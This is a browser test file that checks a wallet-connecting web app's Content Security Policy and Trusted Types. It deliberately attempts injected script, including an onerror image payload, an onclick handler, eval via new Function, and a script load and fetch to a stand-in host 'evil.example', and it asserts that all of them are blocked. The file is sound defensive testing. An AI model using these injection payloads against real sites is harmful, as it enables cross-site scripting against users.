import { REMOTE_URLS, SAFE_URL, SHELL_URL } from './support/stack.ts';
import { expect, test } from './support/test.ts';

// every other scenario fails on a violation: the browser writes it as an error. Here they are caused on purpose.
test.use({ allowedErrors: [/Content Security Policy|violates the following|requires 'Trusted/] });

test('a page runs no script that is inline, evaluated, of a foreign origin or past Trusted Types', async ({
  newPerson,
}) => {
  const { page } = await newPerson('attacker');
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Connect wallet' }).first()).toBeEnabled();
  const outcome = await page.evaluate(async () => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    const thrown = (attack: () => unknown) => {
      try {
        attack();
        return 'nothing';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const results = {
      html: thrown(() => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.hacked = 1">';
      }),
      script: thrown(() => {
        document.createElement('script').src = 'https://evil.example/x.js';
      }),
      policy: thrown(() =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => object } }
        ).trustedTypes.createPolicy('evil', {}),
      ),
      handler: thrown(() => document.createElement('button').setAttribute('onclick', 'window.hacked = 1')),
    };
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
    // outside of this evaluation, in which the browser's driver may evaluate
    let evaluated = 'nothing';
    setTimeout(() => {
      evaluated = thrown(() => new Function('window.hacked = 1')());
    });
    await fetch('https://evil.example/').catch(() => {});
    await new Promise((done) => setTimeout(done, 100));
    return {
      ...results,
      evaluated,
      hacked: 'hacked' in window,
      display: getComputedStyle(document.body).display,
      violated: [...new Set(violated)].sort(),
    };
  });
  expect(outcome).toEqual({
    html: 'TypeError',
    script: 'TypeError',
    policy: 'TypeError',
    handler: 'TypeError',
    evaluated: expect.stringMatching(/^(?:EvalError|TypeError)$/),
    hacked: false,
    display: 'block',
    violated: expect.arrayContaining(['connect-src', 'require-trusted-types-for', 'style-src-elem', 'trusted-types']),
  });
});

test('every build is served with the policy, and framed by the named Safe alone [SAF-01]', async ({ request }) => {
  for (const url of [SHELL_URL, `${SHELL_URL}/view-sales`, ...Object.values(REMOTE_URLS)]) {
    const headers = (await request.get(url)).headers();
    expect(headers['content-security-policy']).toContain("require-trusted-types-for 'script'");
    expect(headers['content-security-policy']).toContain(`frame-ancestors ${SAFE_URL};`);
    expect(headers['content-security-policy']).not.toContain('unsafe');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
  }
});
